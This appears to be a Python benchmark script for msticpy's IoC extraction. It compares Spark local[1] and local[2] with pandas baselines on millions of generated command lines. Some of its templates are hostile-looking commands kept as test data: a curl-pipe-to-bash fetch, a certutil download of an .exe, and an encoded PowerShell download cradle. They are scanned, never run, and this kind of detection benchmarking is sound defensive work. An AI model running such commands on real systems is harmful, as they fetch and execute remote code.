#!/usr/bin/env python3
"""Benchmark IoC extraction inside Spark: ``local[1]`` vs ``local[2]`` vs pandas + msticpy.

One run, one table. The input is ``--rows`` (default 10 million) command lines that
Spark generates itself from the row id (eight templates: URLs, IPv4, defanged URLs,
MD5 hashes, e-mail addresses, DNS names, paths, base64), so no input file is read and
the same rows can be rebuilt anywhere. Each Spark case runs
``msticpy.scale.spark``'s IoC batch kernel through ``mapInArrow`` on every row and
reports, from inside each Python worker, the rows it scanned, the observables it found
and its peak resident memory (``ru_maxrss``); the JVM's peak (``VmHWM``) is read from
``/proc``. Spark's Arrow batches are ``--batch-rows`` rows, so a worker's memory is
bounded by one batch whatever ``--rows`` is.

Baselines on a sample of the same rows (``--sample`` rows, taken from the generated
frame), extrapolated to ``--rows`` as rows per second:

- ``pandas + ours``: ``IoCExtract().extract_df`` of this package on one core.
- ``pandas + msticpy 3.0.2``: the reference package in its own interpreter
  (``--ref-python``); running it on all 10M rows would take hours.

Correctness: on the sample, the Spark output (as ``(row, type, observable)`` triples)
must equal ``extract_df``'s of this package; the reference's agreement is reported as
the share of its triples we also find (msticpy's regexes differ in places, see
docs/ioc_extraction.md).

Examples
--------
::

    nice -n 10 python benchmarks/bench_spark.py                 # 10M rows
    nice -n 10 python benchmarks/bench_spark.py --rows 1000000 --sample 20000
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

REPO_ROOT = Path(__file__).resolve().parent.parent
DEFAULT_REF_PYTHON = Path.home() / ".cache" / "msticpy-ref" / "v302" / "bin" / "python"
MIB = 1024 * 1024
MACHINE_NOTE = (
    "Noisy 2-core machine shared with other jobs: absolute rates wander between runs; "
    "compare the rows of one table."
)

# Eight command-line shapes; `%1$d` etc. are the row id (and derived numbers).
TEMPLATES = (
    "curl -s http://h%2$d.example.org/p%1$d.sh | bash",
    "ping -c 1 10.%3$d.%4$d.7",
    "certutil -urlcache -f hxxp://dl%2$d[.]example[.]com/a%1$d.exe",
    "echo 0123456789abcdef0123456789ab%5$04x > /tmp/f%1$d",
    "mail -s report user%2$d@corp%3$d.example.net < /tmp/r%1$d",
    "nslookup srv%2$d.contoso.com 192.168.%3$d.%4$d",
    "C:\\Windows\\System32\\cmd.exe /c dir C:\\Users\\u%2$d\\Documents",
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu"
    "AFcAZQBiAEMAbABpAGUAbgB0ACkA",
)


def generated(spark: Any, rows: int, partitions: int = 2) -> Any:
    """``rows`` command lines (column ``CommandLine``) and their ``id``, built by Spark
    in ``partitions`` partitions (no shuffle)."""
    from pyspark.sql import functions as fn

    ident = fn.col("id")
    args = [ident, ident % 997, ident % 250, ident % 199, ident % 65536]
    # A CASE chain formats only the chosen template of each row.
    which = ident % len(TEMPLATES)
    pick = fn.when(which == 0, fn.format_string(TEMPLATES[0], *args))
    for number, template in enumerate(TEMPLATES[1:], start=1):
        pick = pick.when(which == number, fn.format_string(template, *args))
    return spark.range(0, rows, 1, partitions).select(ident, pick.alias("CommandLine"))


def _worker_stats(batches: Any, spec: Any) -> Any:
    """mapInArrow body: scan every batch, report this worker's totals and peak RSS."""
    import resource

    import pyarrow as pa

    from msticpy.scale._ioc import ioc_batch

    def cpu() -> float:
        usage = resource.getrusage(resource.RUSAGE_SELF)
        return usage.ru_utime + usage.ru_stime

    scanned = found = 0
    start = cpu()
    for batch in batches:
        scanned += batch.num_rows
        found += ioc_batch(batch, spec).num_rows
    peak_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    yield pa.RecordBatch.from_pydict(
        {
            "rows": [scanned],
            "iocs": [found],
            "peak_kib": [peak_kib],
            "pid": [os.getpid()],
            "cpu_s": [cpu() - start],
        }
    )


_STATS = "rows long, iocs long, peak_kib long, pid long, cpu_s double"


def _jvm_status() -> dict[str, str] | None:
    """``/proc/<pid>/status`` of the JVM this driver started (its ``java`` child)."""
    me = str(os.getpid())
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            text = status.read_text()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in text.splitlines() if ":" in line)
        if fields.get("PPid", "").strip() == me and fields.get("Name", "").strip() == "java":
            fields["Pid"] = fields.get("Pid", "").strip()
            return fields
    return None


def _jvm_peak_mib() -> float | None:
    """Peak RSS of the JVM."""
    fields = _jvm_status()
    return int(fields["VmHWM"].split()[0]) / 1024 if fields else None


def _jvm_cpu_s() -> float:
    """CPU seconds the JVM has used so far (user + system)."""
    fields = _jvm_status()
    if not fields:
        return float("nan")
    stat = Path(f"/proc/{fields['Pid']}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(stat[11]) + int(stat[12])) / os.sysconf("SC_CLK_TCK")


def run_spark(cores: int, rows: int, batch_rows: int) -> dict[str, Any]:
    """One Spark session with ``local[cores]``: time the whole job, read worker stats."""
    from functools import partial

    from pyspark.sql import SparkSession

    spark = (
        SparkSession.builder.master(f"local[{cores}]")
        .appName(f"bench-spark-{cores}")
        .config("spark.ui.enabled", "false")
        .config("spark.driver.memory", "2g")
        .config("spark.sql.execution.arrow.maxRecordsPerBatch", str(batch_rows))
        .config("spark.python.worker.reuse", "true")
        .getOrCreate()
    )
    spark.sparkContext.setLogLevel("ERROR")
    from msticpy.scale._ioc import make_spec

    spec = make_spec(["CommandLine"], "id")
    # A warm-up job starts the Python workers and imports msticpy in them.
    generated(spark, 1000, cores).mapInArrow(partial(_worker_stats, spec=spec), _STATS).collect()
    frame = generated(spark, rows, cores * 4)
    jvm_cpu = _jvm_cpu_s()
    start = time.perf_counter()
    stats = frame.mapInArrow(partial(_worker_stats, spec=spec), _STATS).collect()
    seconds = time.perf_counter() - start
    load = os.getloadavg()[0]
    jvm_cpu = _jvm_cpu_s() - jvm_cpu
    jvm = _jvm_peak_mib()
    spark.stop()
    by_pid: dict[int, int] = {}
    for row in stats:
        by_pid[row["pid"]] = max(by_pid.get(row["pid"], 0), row["peak_kib"])
    return {
        "case": f"spark local[{cores}]",
        "rows": sum(r["rows"] for r in stats),
        "iocs": sum(r["iocs"] for r in stats),
        "seconds": seconds,
        "rows_per_s": rows / seconds,
        "workers": len(by_pid),
        "worker_peak_mib": max(by_pid.values()) / 1024 if by_pid else None,
        "jvm_peak_mib": jvm,
        "worker_cpu_s": sum(r["cpu_s"] for r in stats),
        "load_average": load,
        "jvm_cpu_s": jvm_cpu,
    }


def sample_frame(rows: int) -> Any:
    """The first ``rows`` generated rows as pandas (Spark builds them, once)."""
    from pyspark.sql import SparkSession

    spark = SparkSession.builder.master("local[1]").config("spark.ui.enabled", "false")
    session = spark.getOrCreate()
    session.sparkContext.setLogLevel("ERROR")
    frame = generated(session, rows).toPandas()
    session.stop()
    return frame


def spark_triples(frame: Any) -> set[tuple[int, str, str]]:
    """Our Spark helper's output on ``frame`` (local[2]), as triples."""
    from pyspark.sql import SparkSession

    from msticpy.scale.spark import extract_iocs

    session = SparkSession.builder.master("local[2]").config("spark.ui.enabled", "false")
    spark = session.getOrCreate()
    out = extract_iocs(spark.createDataFrame(frame), "CommandLine", "id").collect()
    spark.stop()
    return {(int(r["SourceIndex"]), r["IoCType"], r["Observable"]) for r in out}


_REF_CODE = """
import json, sys, time
import pandas as pd
from msticpy.transform.iocextract import IoCExtract
with open(sys.argv[1], encoding="utf-8") as data:
    rows = json.load(data)
frame = pd.DataFrame({"id": rows["id"], "CommandLine": rows["CommandLine"]})
extractor = IoCExtract()
extractor.extract_df(frame.head(200), "CommandLine")
start = time.perf_counter()
out = extractor.extract_df(frame, "CommandLine")
seconds = time.perf_counter() - start
triples = [[int(frame["id"].iloc[i]), t, o]
           for i, t, o in zip(out["SourceIndex"], out["IoCType"], out["Observable"])]
json.dump({"seconds": seconds, "triples": triples}, sys.stdout)
"""


def run_reference(ref_python: Path, frame: Any) -> dict[str, Any] | None:
    """msticpy 3.0.2's ``extract_df`` on the sample, in its own interpreter."""
    if not ref_python.exists():
        return None
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "sample.json"
        path.write_text(json.dumps({c: frame[c].tolist() for c in ("id", "CommandLine")}))
        env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
        done = subprocess.run(
            [str(ref_python), "-c", _REF_CODE, str(path)],
            capture_output=True,
            text=True,
            env=env,
            timeout=3600,
            check=False,
        )
    if done.returncode:
        print(done.stderr[-2000:], file=sys.stderr)
        return None
    return json.loads(done.stdout)


def run_ours_pandas(frame: Any) -> tuple[float, set[tuple[int, str, str]]]:
    """This package's ``extract_df`` on the sample, one thread."""
    from msticpy.common.limits import set_default_limits
    from msticpy.transform.iocextract import IoCExtract

    extractor = IoCExtract()
    set_default_limits(threads=1)
    extractor.extract_df(frame.head(200), "CommandLine")
    start = time.perf_counter()
    out = extractor.extract_df(frame, "CommandLine")
    seconds = time.perf_counter() - start
    ids = frame["id"].tolist()
    triples = {
        (ids[i], t, o) for i, t, o in zip(out["SourceIndex"], out["IoCType"], out["Observable"])
    }
    return seconds, triples


def _mib(value: float | None) -> str:
    return "" if value is None else f"{value:.0f}"


def _num(value: float | None, digits: int) -> str:
    return "" if value is None else f"{value:.{digits}f}"


def main(argv: list[str] | None = None) -> int:
    """Run every case and print one table (and JSON with ``--json``)."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--rows", type=int, default=10_000_000)
    parser.add_argument("--sample", type=int, default=50_000)
    parser.add_argument("--batch-rows", type=int, default=10_000)
    parser.add_argument("--cores", default="1,2", help="Spark local[N] cases, comma separated")
    parser.add_argument(
        "--ref-python",
        type=Path,
        default=Path(os.environ.get("MSTICPY_REF_PYTHON", DEFAULT_REF_PYTHON)),
    )
    parser.add_argument("--json", type=Path, help="also write the results here")
    args = parser.parse_args(argv)
    os.environ.setdefault("PYSPARK_PYTHON", sys.executable)
    package_root = str(REPO_ROOT / "python")
    if (REPO_ROOT / "python" / "msticpy" / "_native.abi3.so").exists():
        paths = [p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]
        os.environ["PYTHONPATH"] = os.pathsep.join([package_root, *paths])

    results = [run_spark(int(c), args.rows, args.batch_rows) for c in args.cores.split(",")]
    sample = sample_frame(args.sample)
    ours_s, ours = run_ours_pandas(sample)
    spark_ok = spark_triples(sample) == ours
    results.append(
        {
            "case": "pandas + ours (1 thread, sample)",
            "rows": len(sample),
            "iocs": len(ours),
            "seconds": ours_s,
            "rows_per_s": len(sample) / ours_s,
        }
    )
    ref = run_reference(args.ref_python, sample)
    agreement = None
    if ref is not None:
        theirs = {tuple(t) for t in ref["triples"]}
        agreement = len(theirs & ours) / len(theirs) if theirs else 1.0
        results.append(
            {
                "case": "pandas + msticpy 3.0.2 (sample)",
                "rows": len(sample),
                "iocs": len(theirs),
                "seconds": ref["seconds"],
                "rows_per_s": len(sample) / ref["seconds"],
            }
        )
    print(f"\nIoC extraction, {args.rows:,} generated command lines. {MACHINE_NOTE}")
    print(
        f"{'case':36} {'rows':>12} {'iocs':>12} {'s':>9} {'rows/s':>11} {'10M in':>9} "
        f"{'worker MiB':>10} {'JVM MiB':>8} {'worker CPU s':>12} {'JVM CPU s':>9} {'load':>5}"
    )
    for r in results:
        eta = 10_000_000 / r["rows_per_s"]
        worker = r.get("worker_peak_mib")
        jvm = r.get("jvm_peak_mib")
        print(
            f"{r['case']:36} {r['rows']:>12,} {r['iocs']:>12,} {r['seconds']:>9.1f} "
            f"{r['rows_per_s']:>11,.0f} {eta:>8.0f}s "
            f"{_mib(worker):>10} {_mib(jvm):>8} {_num(r.get('worker_cpu_s'), 1):>12} "
            f"{_num(r.get('jvm_cpu_s'), 1):>9} "
            f"{_num(r.get('load_average'), 1):>5}"
        )
    spark_rates = [r for r in results if r["case"].startswith("spark")]
    if len(spark_rates) == 2:
        ratio = spark_rates[1]["rows_per_s"] / spark_rates[0]["rows_per_s"]
        print(f"scaling {spark_rates[1]['case']} / {spark_rates[0]['case']}: {ratio:.2f}x")
        # On a machine whose cores are busy with other work, wall-clock scaling is capped
        # by the CPU the workers get; rows per worker-CPU-second shows whether the work
        # itself divides without overhead.
        for r in spark_rates:
            print(f"{r['case']}: {r['rows'] / r['worker_cpu_s']:,.0f} rows per worker-CPU-second")
    if ref is not None:
        print(
            "speed vs msticpy 3.0.2 (rows/s): "
            + ", ".join(
                f"{r['case']} {r['rows_per_s'] / results[-1]['rows_per_s']:.0f}x"
                for r in results[:-1]
            )
        )
    print(f"correct: spark output == extract_df on the {len(sample):,}-row sample: {spark_ok}")
    if agreement is not None:
        print(f"msticpy 3.0.2's observables we also find on the sample: {agreement:.1%}")
    if args.json:
        args.json.write_text(
            json.dumps(
                {"results": results, "spark_ok": spark_ok, "ref_agreement": agreement}, indent=2
            )
        )
    return 0 if spark_ok else 1


if __name__ == "__main__":
    sys.exit(main())
